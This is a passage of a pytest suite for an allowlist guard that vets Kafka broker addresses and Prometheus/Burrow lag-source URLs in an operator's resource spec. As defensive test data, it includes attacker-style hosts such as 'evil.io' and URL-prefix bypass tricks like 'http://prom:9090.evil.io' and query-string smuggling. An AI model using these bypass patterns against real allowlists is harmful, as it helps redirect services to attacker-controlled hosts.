    (refusal,) = check_bootstrap_servers(servers, BROKERS)
    assert refusal.field == "spec.kafka.bootstrapServers"
    assert f"broker {refused} is not one" in refusal.reason
    assert "--allowed-bootstrap-servers" in refusal.reason


def test_without_a_broker_allowlist_any_broker_passes() -> None:
    assert check_bootstrap_servers("kafka.evil.io:9093", GuardAllowlist()) == []


@pytest.mark.parametrize(
    "pattern", ["kafka.example.com", "https://kafka.example.com:9093", "k*.example.com:9093", ":9093"]
)
def test_a_malformed_broker_pattern_is_refused_at_start(pattern: str) -> None:
    with pytest.raises(ValueError, match="bootstrap server pattern"):
        GuardAllowlist(bootstrap_servers=(pattern,))


# -- HTTP lag sources (--allowed-lag-source-urls) -----------------------------------------------

SOURCES = GuardAllowlist(
    lag_source_urls=("http://prometheus.monitoring.svc:9090", "https://burrow.ops:8000/v3")
)


@pytest.mark.parametrize(
    ("url", "prefix", "starts"),
    [
        pytest.param("http://prom:9090", "http://prom:9090", True, id="equal"),
        pytest.param("http://prom:9090/api/v1", "http://prom:9090", True, id="below"),
        pytest.param("HTTP://PROM:9090/x", "http://prom:9090", True, id="scheme-and-host-without-case"),
        pytest.param("http://prom:90901", "http://prom:9090", False, id="longer-port"),
        pytest.param("http://prom:9090.evil.io", "http://prom:9090", False, id="longer-host"),
        pytest.param("https://prom:9090", "http://prom:9090", False, id="other-scheme"),
        pytest.param("http://b:1/v3x", "http://b:1/v3", False, id="path-prefix-at-a-boundary"),
        pytest.param("http://b:1/v3/kafka", "http://b:1/v3/", True, id="prefix-with-a-slash"),
        pytest.param("http://evil.io/?u=http://prom:9090", "http://prom:9090", False, id="prefix-elsewhere"),
    ],
)
def test_url_prefixes_match_at_boundaries(url: str, prefix: str, starts: bool) -> None:
    assert url_has_prefix(url, prefix) is starts


def test_a_lag_source_url_outside_the_allowlist_is_refused_naming_it_and_the_flag() -> None:
    (refusal,) = check_lag_source_url("burrow", {"url": "https://burrow.evil.io/v3"}, SOURCES)
    assert refusal.field == "spec.lagSource.burrow.url"
    assert "https://burrow.evil.io/v3 is not a server" in refusal.reason
    assert "--allowed-lag-source-urls" in refusal.reason
    assert check_lag_source_url("prometheus", {"url": "http://prometheus.monitoring.svc:9090"}, SOURCES) == []
    assert check_lag_source_url("burrow", {"url": "https://burrow.ops:8000/v3/kafka"}, SOURCES) == []


def test_without_a_url_allowlist_or_an_http_source_nothing_is_refused() -> None:
    assert check_lag_source_url("prometheus", {"url": "http://evil.io"}, GuardAllowlist()) == []
    assert check_lag_source_url("kafka", {}, SOURCES) == []
    assert check_lag_source_url("forecast", {"path": "/data"}, SOURCES) == []


@pytest.mark.parametrize("prefix", ["prom:9090", "ftp://prom", "http://", "http:///path", " http://prom"])
def test_a_malformed_url_prefix_is_refused_at_start(prefix: str) -> None:
    with pytest.raises(ValueError, match="lag source URL prefix"):
        GuardAllowlist(lag_source_urls=(prefix,))
